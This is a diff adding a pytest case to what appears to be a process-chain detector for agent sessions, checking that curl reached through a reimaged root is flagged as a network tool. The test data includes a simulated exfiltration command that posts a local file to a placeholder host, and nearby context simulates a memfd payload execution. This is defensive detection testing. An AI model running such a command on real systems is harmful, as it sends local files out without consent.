@@ -143,6 +143,14 @@ def test_the_agent_root_names_no_lineage_node(core):
     assert not ex(core, s).interpreter_in_chain
 
 
+def test_a_root_reimaged_in_place_names_its_own_node(core):
+    """`casa-agent -c 'curl ...'`: bash runs its last command in place; the sessionizer marks
+    the root's new image ``reimaged``, and curl is then a network tool in its own chain."""
+    s = Seq(common={"root": 150})
+    s.exec(1, 150, "/usr/bin/curl", ["curl", "-d", "@/tmp/x", "http://x"], parent=50, reimaged=True)
+    assert ex(core, s).network_tool_in_chain
+
+
 def test_the_root_exec_in_place_of_a_memfd_still_counts(core):
     s = Seq(common={"root": 150}).exec(1, 150, "/proc/self/fd/3", ["payload"], parent=50,
                                        exe="memfd:payload (deleted)")
